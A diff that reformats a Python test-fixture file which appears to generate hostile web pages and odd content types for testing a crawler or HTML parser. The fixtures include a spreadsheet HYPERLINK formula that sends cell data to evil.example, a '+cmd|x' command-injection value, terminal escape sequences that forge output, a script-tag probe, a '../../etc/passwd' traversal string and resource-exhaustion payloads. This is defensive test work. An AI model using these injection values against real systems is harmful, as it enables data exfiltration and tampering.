@@ -50,23 +50,30 @@ PAGES: dict[str, Callable[[], bytes]] = {
     "8-MB-href": lambda: _START + b"<a href='/" + b"x" * 7_900_000 + b"'>x</a>",
     "entities": lambda: _START + b"&nbsp&lt&#x41;&notit;&CounterClockwiseContourIntegral;" * 100_000,
     "random": lambda: random.Random(5).randbytes(5_000_000),
-    "zeros": lambda: bytes(5_000_000), "zeros-in-text": lambda: _START + b"w\0o\0r\0d\0 " * 500_000,
+    "zeros": lambda: bytes(5_000_000),
+    "zeros-in-text": lambda: _START + b"w\0o\0r\0d\0 " * 500_000,
     "controls": lambda: _text("".join(map(chr, range(32))) * 9_000),
-    "dotted": lambda: _text("a." * 40_000), "mail-like": lambda: _text("a.a@" * 20_000),
+    "dotted": lambda: _text("a." * 40_000),
+    "mail-like": lambda: _text("a.a@" * 20_000),
     "url-like": lambda: _text("http://a.b/" * 50_000),
     "near-names": lambda: _text("Quilmark Quillmarc Qillmark Quillmarks Quill mark Quull-mark quilI mark " * 5_000),
     "combining": lambda: _text("\u0301\u0316" * 40_000),
     "combining-on-letters": lambda: _text("q\u0301\u0316\u0301\u0316u" * 20_000),
-    "zalgo": lambda: _text("Q" + "\u0301" * 100_000), "joined": lambda: _text("Q\u200du\u200bi\u2060l\ufeffl" * 40_000),
+    "zalgo": lambda: _text("Q" + "\u0301" * 100_000),
+    "joined": lambda: _text("Q\u200du\u200bi\u2060l\ufeffl" * 40_000),
     "right-to-left": lambda: _text("\u202e\u2066\u2067" * 60_000 + "words"),
     "emoji": lambda: _text("\U0001f468\u200d\U0001f469\u200d" * 60_000),
-    "hangul": lambda: _text("\u1100\u1161\u11a8" * 60_000), "ligature": lambda: _text("\ufdfa" * 100_000),
-    "quotes": lambda: _text("\"'“”‘’«»" * 60_000), "digits": lambda: _text("1" * 500_000),
+    "hangul": lambda: _text("\u1100\u1161\u11a8" * 60_000),
+    "ligature": lambda: _text("\ufdfa" * 100_000),
+    "quotes": lambda: _text("\"'“”‘’«»" * 60_000),
+    "digits": lambda: _text("1" * 500_000),
     "dates": lambda: _text("2026-11-26T" * 50_000),
-    "sharp-s": lambda: _text("ß\u1e9eİı" * 100_000), "tabs": lambda: _text("\t \u00a0\u3000" * 200_000),
+    "sharp-s": lambda: _text("ß\u1e9eİı" * 100_000),
+    "tabs": lambda: _text("\t \u00a0\u3000" * 200_000),
     "surrogates": lambda: _data(_SURROGATES) + b"&#xD800;&#xDFFF;\xed\xa0\x80",
     "json-2-MB": lambda: _data(b'{"@type": "Article", "headline": "' + b"x" * 2_000_000 + b'"}'),
-    "json-deep": lambda: _data(b'{"a":' * 100_000), "json-lists": lambda: _data(b"[" * 1_000_000),
+    "json-deep": lambda: _data(b'{"a":' * 100_000),
+    "json-lists": lambda: _data(b"[" * 1_000_000),
     "json-many": lambda: _data(b"[" + b'{"@type":"Article","author":{"name":"x"}},' * 50_000 + b"{}]"),
     "json-number": lambda: _data(b'{"@type": "Article", "wordCount": ' + b"9" * 1_000_000 + b"}"),
     "json-types": lambda: _data(b'{"@type": {"@type": []}, "author": 5, "headline": {}, "url": true}'),
@@ -75,20 +82,23 @@ PAGES: dict[str, Callable[[], bytes]] = {
     "title-5-MB": lambda: b"<title>" + b"t" * 5_000_000 + b"</title>" + _START,
     "titles": lambda: b"<title>t</title>" * 20_000 + _START,
     "title-escapes": lambda: b"<title>\x1b]0;owned\x07\x1b[2J\x1b[31m\r\nERROR forged line\x9b</title>" + _START,
-    "title-formula": lambda: _START
-    + b"<title>=HYPERLINK(\"http://evil.example/?\"&A1)</title><meta name=author content='+cmd|x'>",
+    "title-formula": lambda: (
+        _START + b"<title>=HYPERLINK(\"http://evil.example/?\"&A1)</title><meta name=author content='+cmd|x'>"
+    ),
     "title-script": lambda: b"<title><script>alert(1)</script></title><h1>&lt;script&gt;</h1>" + _START,
     "metas": lambda: b"<meta property='og:title' content='x'>" * 30_000 + _START,
     "meta-refreshes": lambda: b"<meta http-equiv=refresh content='0;url=/page'>" * 5_000 + _START,
     "meta-refresh-spaces": lambda: b"<meta http-equiv=refresh content='" + b" " * 3_000_000 + b"0;url=/page'>" + _START,
     "meta-refresh-slow": lambda: b"<meta http-equiv=refresh content='1e999;url=/page'>" + _START,
     "base-twice": lambda: b"<base href='http://['><base href='javascript:x'><base href>" + _START + b"<a href=x>y</a>",
-    "alternates": lambda: b"".join(b"<link rel=alternate type=application/rss+xml href=/f%d>" % number
-        for number in range(9_000)) + _START,
+    "alternates": lambda: (
+        b"".join(b"<link rel=alternate type=application/rss+xml href=/f%d>" % number for number in range(9_000))
+        + _START
+    ),
     "dates-in-head": lambda: b"<meta property='article:published_time' content='%s'>" % (b"9" * 100_000) + _START,
     "lang": lambda: b"<html lang='" + b"x-" * 100_000 + b"'>" + _START,
     "xml-as-html": lambda: b"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY a 'b'>]><html>&a;" + _START,
-}  # fmt: skip
+}
 
 CHARSETS = """
 ../../etc/passwd rot13 rot_13 idna punycode utf-7 unicode_escape raw_unicode_escape undefined hex base64 bz2 zip quopri
@@ -120,14 +130,31 @@ def build(world: World) -> None:
 def _kinds(world: World) -> None:
     """Odd content types."""
     host = world.host("kinds", "pages")
-    for number, kind in enumerate((
-        "", "/", "text", "text/html/", ";;;", "text/html; " * 99, "image/svg+xml", "application/pdf",
+    for number, kind in enumerate(
+        (
+            "",
+            "/",
+            "text",
+            "text/html/",
+            ";;;",
+            "text/html; " * 99,
+            "image/svg+xml",
+            "application/pdf",
             "application/xhtml+xml",
-        "multipart/x-mixed-replace; boundary=a", "message/rfc822", "application/json", "application/x-gzip",
-            "text/css", "*/*",
-        "application/octet-stream", "text/event-stream", "TEXT/HTML", "text/html\t;charset",
-            "text/plain; charset=\"", "x" * 9_000,
-    )):  # fmt: skip
+            "multipart/x-mixed-replace; boundary=a",
+            "message/rfc822",
+            "application/json",
+            "application/x-gzip",
+            "text/css",
+            "*/*",
+            "application/octet-stream",
+            "text/event-stream",
+            "TEXT/HTML",
+            "text/html\t;charset",
+            'text/plain; charset="',
+            "x" * 9_000,
+        )
+    ):
         host.hostile(f"/kind/{number}", fixed(http(_START, kind=kind)))
         host.hostile(f"/random/{number}", fixed(http(random.Random(number).randbytes(50_000), kind=kind)))
 
